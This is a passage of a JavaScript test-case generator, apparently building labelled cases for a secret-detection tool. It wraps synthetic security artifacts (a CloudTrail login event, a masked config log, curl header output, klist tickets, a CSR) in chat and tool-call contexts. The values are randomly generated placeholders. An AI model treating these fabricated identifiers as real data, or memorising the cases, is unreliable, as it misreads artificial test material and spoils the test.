// 40 CloudTrail event (no key ids)
add("CloudTrail event (event/request ids, ARNs; no access key id); context: Anthropic body", anth(g, `Questo login in console dal ruolo IR era previsto?\n\n${F}json\n${JSON.stringify({ eventVersion: "1.10", eventTime: g.ts(), eventSource: "signin.amazonaws.com", eventName: "ConsoleLogin", awsRegion: "us-east-1", sourceIPAddress: g.pubip(), userIdentity: { type: "AssumedRole", arn: `arn:aws:sts::${g.dig(12)}:assumed-role/IR-Responder/jdoe` }, responseElements: { ConsoleLogin: "Success" }, eventID: g.uuid(), requestID: g.uuid(), recipientAccountId: g.dig(12) }, null, 2)}\n${F}`));

// 41 masked config dump
add("config dump with masked secrets (prefix plus asterisks, last 4); context: debug log in a chat body", oai(g, `The enrichment worker logs this at startup, are the right keys loaded?\n\n${F}\n${g.ts()} INFO config loaded: vt_api_key=****************************${g.hex(4)} shodan_api_key=[REDACTED] stripe_key=${j("sk", "_live_")}************${g.an(4)} misp_auth_key=******** (len=40)\n${F}`));

// 42 CSP / HSTS headers
add("response security headers (CSP nonce and hashes, HSTS, Expect-CT); context: curl -I output in a tool result", oaiTool(g, "Check the security headers on the SOC portal.", "run_shell", { command: "curl -sI https://soc.example.net/" }, `HTTP/2 200\ncontent-security-policy: default-src 'self'; script-src 'self' 'nonce-${g.b64(22)}==' 'sha256-${g.b64(43)}='; object-src 'none'\nstrict-transport-security: max-age=63072000; includeSubDomains; preload\nx-request-id: ${g.uuid()}\netag: "${g.hex(32)}"`));

// 43 klist output
add("klist output (principals, ticket times, no key material); context: MCP result", mcpResult(g, `$ klist\nTicket cache: KCM:1000:${g.dig(5)}\nDefault principal: jdoe@CORP.EXAMPLE.COM\n\nValid starting       Expires              Service principal\n01/14/2025 09:12:01  01/14/2025 19:12:01  krbtgt/CORP.EXAMPLE.COM@CORP.EXAMPLE.COM\n01/14/2025 09:15:44  01/14/2025 19:12:01  HTTP/siem.corp.example.com@CORP.EXAMPLE.COM\n`));

// 44 CSR
add("certificate signing request (PEM CSR); context: chat body", anth(g, `Does this CSR have the right SANs for the syslog relay?\n\n${F}\n-----BEGIN CERTIFICATE REQUEST-----\n${wrap("MIICvDCCAaQCAQAwHzEdMBsGA1UEAwwUc3lzbG9nLXJlbGF5LnNvYy50ZXN0" + g.b64(880) + "==")}\n-----END CERTIFICATE REQUEST-----\n${F}`));

export { cases };
